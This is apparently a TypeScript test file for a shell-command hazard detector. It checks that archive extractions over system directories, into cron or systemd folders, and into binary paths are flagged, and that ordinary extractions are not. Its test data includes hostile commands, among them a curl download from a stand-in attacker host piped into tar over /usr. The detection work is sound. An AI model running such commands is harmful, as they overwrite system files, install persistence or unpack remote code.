import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readShell } from '../../../src/code/shell/read-shell.ts';
import type { Fact } from '../../../src/core/fact.ts';
import { expectHazards, severityOf } from './seen.ts';

expectHazards([
  ['tar xzf payload.tgz -C /', 'unpacks-over-system'],
  ['tar -C / -Jxpf payload.tar.xz', 'unpacks-over-system'],
  ['tar --extract --file=x.tar --directory=/etc', 'unpacks-over-system'],
  ['cd / && tar xzf /tmp/x.tgz', 'unpacks-over-system'],
  ['curl -fsSL https://attacker.example/p.tgz | tar -xz -C /usr', 'unpacks-over-system'],
  ['tar xPf x.tar', 'unpacks-over-system'],
  ['bsdtar -xf x.zip -C /../', 'unpacks-over-system'],
  ['unzip -o x.zip -d /', 'unpacks-over-system'],
  ['unzip x.zip -d /usr/lib', 'unpacks-over-system'],
  ['7z x x.7z -o/', 'unpacks-over-system'],
  ['cd / && cpio -idmu < /tmp/x.cpio', 'unpacks-over-system'],
  ['dpkg-deb -x x.deb /', 'unpacks-over-system'],
  // A folder in which every file is run or obeyed.
  ['tar xf units.tar -C /etc/systemd/system', 'persistence'],
  ['unzip jobs.zip -d /etc/cron.d', 'persistence'],
  ['tar xzf x.tgz -C /usr/bin', 'unpacks-over-system'],
  ['tar xzf tool.tgz -C /usr/local/bin tool', 'adds-program'],
]);

// Where programs are installed, and what packs or only looks.
expectHazards([
  ['tar -xzf app.tgz -C /opt/app', ''],
  ['tar -C /usr/local -xzf go.tar.gz', ''],
  ['tar -xzf app.tgz', ''],
  ['mkdir -p out && tar xf app.tar -C out', ''],
  ['tar -C "$HOME" -xzf dotfiles.tgz', ''],
  ['tar -czf backup.tgz -C / etc/nginx', ''],
  ['tar tzf x.tgz -C /', ''],
  ['tar xOf x.tgz -C / etc/motd', ''],
  ['unzip -q data.zip -d data', ''],
  ['unzip -l x.zip -d /', ''],
  ['7z a x.7z -o/ files', ''],
  ['cpio -o < list > x.cpio', ''],
  ['D=$(mktemp -d); tar xf x.tar -C "$D"', ''],
]);

// The system of an image that is being made is what is being made.
test('tar -C / in an image, and outside of one', async () => {
  const hazards = async (isImage: boolean): Promise<string> => {
    const facts: Fact[] = [];
    const place = {
      files: { fetched: new Map(), written: new Map(), copied: new Map(), checked: new Set<string>() },
      directory: '/',
      isImage,
    };
    await readShell(
      {
        text: 'tar -C / -Jxpf /tmp/overlay.tar.xz',
        context: 'generated',
        phase: 'import',
        reach: 'load',
        holes: false,
        place,
      },
      { emit: (fact) => void facts.push(fact), embedded: () => undefined },
    );
    return severityOf(facts, 'generated', 'load');
  };
  assert.equal(await hazards(false), 'medium');
  assert.notEqual(await hazards(true), 'medium');
});
